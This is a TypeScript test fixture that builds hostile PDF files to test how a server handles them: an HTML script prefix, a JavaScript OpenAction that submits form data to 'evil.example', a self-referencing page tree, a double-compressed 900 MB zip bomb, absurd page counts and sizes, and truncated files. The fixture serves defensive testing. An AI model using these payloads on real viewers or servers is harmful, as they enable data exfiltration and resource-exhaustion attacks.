import { deflateSync } from 'node:zlib'
import { buildEndlessPdf, buildPdf } from '#server/test/pdf-files.ts'

/** A PDF of these objects; the last one is the catalogue. */
function pdfOf(objects: (string | Buffer)[], head = '%PDF-1.7\n'): Buffer {
  const parts: Buffer[] = [Buffer.from(head, 'latin1')]
  const offsets: number[] = []
  let length = parts[0]!.length
  const add = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  objects.forEach((object, index) => {
    offsets.push(length)
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]))
  })
  const start = length
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${rows}`))
  add(Buffer.from(`trailer\n<< /Size ${size} /Root ${objects.length} 0 R >>\nstartxref\n${start}\n%%EOF\n`))
  return Buffer.concat(parts)
}

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'
const pages = (fields: string) => `<< /Type /Pages ${fields} >>`
const catalogue = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`

/** A stream of zeros, compressed twice: some kilobytes for hundreds of megabytes. */
function zeros(bytes: number): Buffer {
  const twice = deflateSync(deflateSync(Buffer.alloc(bytes), { level: 9 }), { level: 9 })
  const head = `<< /Length ${twice.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`
  return Buffer.concat([Buffer.from(head), twice, Buffer.from('\nendstream')])
}

/** Files that would run something, or be read for ever. */
export function hostilePdfs(): Record<string, Buffer> {
  const whole = buildPdf({ pages: ['mai'], bytesPerPage: 40_000 })
  const content = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>'
  return {
    'HTML and PDF': Buffer.concat([Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n'), whole]),
    JavaScript: pdfOf([
      page,
      pages('/Kids [1 0 R] /Count 1'),
      '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>',
      catalogue('/OpenAction 3 0 R /AA << /WC 3 0 R >>'),
    ]),
    'a loop of pages': pdfOf([page, pages('/Kids [2 0 R 2 0 R] /Count 2'), catalogue()]),
    '2,000,000,000 pages': pdfOf([page, pages('/Kids [1 0 R] /Count 2000000000'), catalogue()]),
    'a stream of 900 MB': pdfOf([content, pages('/Kids [1 0 R] /Count 1'), zeros(900_000_000), catalogue()]),
    'nested forms': buildEndlessPdf(),
    'a page of 1,000,000,000 points': pdfOf([
      page.replace('595 842', '1000000000 1000000000'),
      pages('/Kids [1 0 R] /Count 1'),
      catalogue(),
    ]),
    'cut short': whole.subarray(0, whole.length >> 1),
    'nothing but a head': Buffer.from('%PDF-1.7\n'),
  }
}
